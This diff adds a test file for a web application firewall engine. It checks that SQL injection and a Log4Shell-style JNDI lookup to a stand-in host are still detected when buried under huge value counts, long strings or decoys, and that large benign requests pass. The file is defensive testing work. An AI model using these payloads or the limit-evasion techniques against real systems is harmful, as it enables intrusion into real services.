@@ -1,0 +1,154 @@
+// Attacks behind a limit of the firewall's engine: many values, long values, many suspicious ones.
+import { afterAll, expect, test } from 'vitest';
+import { startWafEngine, type WafRequest } from '../support/services/waf-engine.ts';
+
+const SQLI = '1 union select 2,3';
+/** Harmless to the model; a rule marked alone finds it. */
+const JNDI = '${jndi:ldap://a.example/x}';
+const JSON_TYPE = ['Content-Type', 'application/json'] as const;
+const FORM_TYPE = ['Content-Type', 'application/x-www-form-urlencoded'] as const;
+
+const items = (count: number) => Array.from({ length: count }, (_, i) => `item ${i}`);
+const list = (...texts: string[]) => JSON.stringify(texts);
+const pairs = (...texts: string[]) => texts.map((text, i) => `a${i}=${encodeURIComponent(text)}`).join('&');
+const of = (body: string, ...headers: WafRequest['headers'][number][]) => ({ target: '/', headers, body });
+const json = (value: unknown) => of(JSON.stringify(value), JSON_TYPE);
+/** JSON within JSON: each text is a value of its own. */
+const nested = (lists: number, each: number, ...last: string[]) =>
+  json([...Array.from({ length: lists }, () => list(...items(each))), ...last]);
+const parts = (...texts: string[]) =>
+  of(`${texts.map((text) => `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n`).join('')}--x--`, [
+    'Content-Type',
+    'multipart/form-data; boundary=x',
+  ]);
+/** Their scores exceed the first threshold only, and no rule finds them. */
+const DECOY = "a' or b";
+
+const attacks: [what: string, request: WafRequest, rule: RegExp][] = [
+  [
+    'a list of 1,900 strings in each of three headers',
+    {
+      target: '/',
+      headers: [
+        ['x-a', list(...items(1900))],
+        ['x-b', list(...items(1900))],
+        ['x-c', list(...items(1900))],
+      ],
+      body: `q=${encodeURIComponent(SQLI)}`,
+    },
+    /^sqli-/,
+  ],
+  ['4,500 strings in lists of a list', nested(9, 500, SQLI), /^sqli-/],
+  ['2,100 strings', json([...items(2100), SQLI]), /^sqli-/],
+  ['600 parameters', { target: `/?${pairs(...items(600), SQLI)}`, headers: [], body: '' }, /^sqli-/],
+  ['600 form fields', of(pairs(...items(600), SQLI), FORM_TYPE), /^sqli-/],
+  ['300 parts', parts(...items(300), SQLI), /^sqli-/],
+  [
+    '2,100 XML nodes',
+    of(
+      `<l>${items(2100)
+        .map((text) => `<i>${text}</i>`)
+        .join('')}<i>${SQLI}</i></l>`,
+    ),
+    /^sqli-/,
+  ],
+  ['64 KiB of commas', of(`a=${','.repeat(65_536)}${SQLI}`, FORM_TYPE), /^sqli-/],
+  ['64 Ki different tokens', of(`a=${',.'.repeat(40_000)} ${SQLI}`, FORM_TYPE), /^sqli-/],
+  ['64 KiB of commas in a text without a type', of(`${',.'.repeat(70_000)} ${SQLI}`), /^sqli-/],
+  [
+    '250 suspicious values, for a rule marked alone',
+    of(pairs(...Array(250).fill(DECOY), JNDI), FORM_TYPE),
+    /^template-jndi$/,
+  ],
+  [
+    '250 suspicious values',
+    { target: `/?${pairs(...Array(250).fill(DECOY), SQLI)}`, headers: [], body: '' },
+    /^sqli-union-select$/,
+  ],
+  ...['Accept', 'Origin', 'X-Requested-With', 'If-None-Match', 'Accept-Language', 'Cache-Control'].map(
+    (name): [string, WafRequest, RegExp] => [
+      `the header ${name}`,
+      { target: '/', headers: [[name, JNDI]], body: '' },
+      /^template-jndi$/,
+    ],
+  ),
+];
+
+const ordinary: [what: string, request: WafRequest][] = [
+  ['JSON with 5,000 strings', json(items(5000))],
+  ['JSON with 3,000 records', json(items(3000).map((name, i) => ({ name, id: i, ok: true })))],
+  [
+    'a log shipper with events as JSON texts',
+    json(
+      items(500).map((message) =>
+        JSON.stringify({ message, level: 'info', host: 'web-1', at: '2026-11-29T18:00:00Z' }),
+      ),
+    ),
+  ],
+  ['a text of 90,000 words', of(`a=${'word and another, '.repeat(22_500)}`, FORM_TYPE)],
+  [
+    'common headers',
+    {
+      target: '/',
+      body: '',
+      headers: [
+        ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+        ['Accept-Language', 'zh-TW,zh;q=0.8,en-US;q=0.5'],
+        ['Origin', 'https://www.example.com'],
+        ['X-Requested-With', 'XMLHttpRequest'],
+        ['If-None-Match', 'W/"5f-1b2c{x}"'],
+        ['Cache-Control', 'max-age=0'],
+        ['Sec-Fetch-Mode', 'navigate'],
+      ],
+    },
+  ],
+];
+
+/** More than any ordinary request has. */
+const excesses: [what: string, request: WafRequest][] = [
+  ['50,001 suspicious texts', json(Array<string>(50_001).fill("it's"))],
+  ['7,000 texts that only rules can judge', json(Array<string>(7000).fill(DECOY))],
+];
+
+const engine = await startWafEngine();
+afterAll(() => engine.stop());
+const verdicts = await engine.judge([...attacks, ...ordinary, ...excesses].map(([, request]) => request));
+const numbered = (cases: readonly (readonly [string, ...unknown[]])[], from: number) =>
+  cases.map((one, i) => [one[0], from + i] as const);
+
+test.each(numbered(attacks, 0))('the attack behind %s is found', (_what, i) => {
+  expect(verdicts[i]?.rule).toMatch(attacks[i]?.[2] ?? '');
+});
+test.each(numbered(ordinary, attacks.length))('%s is ordinary', (_what, i) => {
+  expect(verdicts[i]).not.toHaveProperty('rule');
+});
+test.each(numbered(excesses, attacks.length + ordinary.length))('%s are refused', (_what, i) => {
+  expect(verdicts[i]).toMatchObject({ rule: 'protocol-too-many-values', place: 'body' });
+});
+
+test('a header value that passed without a score is inspected under another name', async () => {
+  const value = "1' union all select name,2 from users";
+  const found = await engine.judge([
+    { target: '/', headers: [['Accept', value]], body: '' },
+    { target: '/', headers: [['X-Id', value]], body: '' },
+  ]);
+  expect(found.map(({ rule }) => rule)).toEqual([undefined, expect.stringMatching(/^sqli-/)]);
+});
+
+test('a rule marked alone is found in a header whose value passed where the rule is disabled', async () => {
+  const requests = [{ target: '/', headers: [['Accept', `${JNDI}#`]] as const, body: '' }];
+  const [passed] = await engine.judge(requests, { disabled: ['template-jndi'] });
+  expect(passed).not.toHaveProperty('rule');
+  expect(await engine.judge(requests)).toMatchObject([{ rule: 'template-jndi', place: 'header' }]);
+});
+
+test('a header value that another request hid from the inspection is inspected in the next one', async () => {
+  const headers = [['x-id', "1' union all select name,2 from users"]] as const;
+  const list = encodeURIComponent(JSON.stringify(Array<string>(50_001).fill("it's")));
+  const [hidden, next] = await engine.judge([
+    { target: `/?a=${list}`, headers, body: '' },
+    { target: '/', headers, body: '' },
+  ]);
+  expect(hidden?.rule).toBe('protocol-too-many-values');
+  expect(next).toMatchObject({ rule: expect.stringMatching(/^sqli-/), place: 'header' });
+});
